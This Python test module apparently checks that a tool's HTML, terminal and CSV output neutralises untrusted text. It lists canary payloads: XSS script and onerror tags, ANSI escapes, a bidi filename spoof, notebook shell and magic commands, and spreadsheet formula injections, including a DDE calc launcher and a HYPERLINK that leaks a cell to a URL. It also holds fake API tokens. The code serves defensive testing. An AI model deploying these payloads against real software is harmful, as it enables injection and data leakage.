"""Text from outside that would do harm where it is shown as it is, and what a display may show."""

from __future__ import annotations

import csv
import io

from ftlab._core.text import FORMULA_STARTS

CANARIES = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "ansi": "\x1b[2J\x1b]0;owned\x07gone\x9b31m",
    "return": "honest\rforged",
    "bidi": "\u202egnp.exe\u2066",
    "magic": "%rm x",
    "shell": "!touch x",
    "fence": "```\n!touch x\n```",
    "long": "x" * 1_000_000,
    "surrogates": "\ud800 alone \udfff",
    "hyperlink": '=HYPERLINK("http://example.org?"&A1,"here")',
    "plus": "+1+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "row": "a\r=1+1",
}
TOKENS = [
    "hf_" + "aB3" * 11,
    "sk-" + "aB3" * 11,
    "sk-proj-aB3_" + "x-aB3_" * 9 + "b" * 20,
    "Bearer " + "aB3." * 8,
]
TOKENS_IN_TEXT = [
    "https://user:pass@example.org/v1",
    "http://:pass@h",
    "https://x.org/a?api_key=pass&b=1",
    "\x1b[31m" + TOKENS[0],
    "'line\\n" + TOKENS[1] + "'",
    *(f"({token})" for token in TOKENS),
]


def assert_seen(text: str, most: int = 150_000) -> None:
    """Expect nothing that moves a cursor, hides or cannot be encoded, and not too much of it."""
    assert all(character.isprintable() or character == "\n" for character in text)
    assert len(text) <= most
    text.encode()


def assert_page(text: str) -> None:
    """Expect HTML in which none of the canaries is markup."""
    assert_seen(text)
    assert "<script" not in text and "<img src=x" not in text


def assert_csv(text: str) -> None:
    """Expect no formula in any field, whatever a spreadsheet takes for the end of a row."""
    csv.field_size_limit(10**7)
    for reader in (csv.reader(io.StringIO(text, newline="")), csv.reader(text.splitlines())):
        for row in reader:
            assert not any(_is_formula(field) for field in row)
    assert not any(_is_control(ord(character)) for character in text)


def _is_formula(field: str) -> bool:
    try:
        float(field)
    except ValueError:
        return field.startswith(FORMULA_STARTS)
    return False


def _is_control(code: int) -> bool:
    in_ascii = code < 32 and chr(code) not in "\n\t"
    return in_ascii or 127 <= code < 160 or 0xD800 <= code < 0xE000
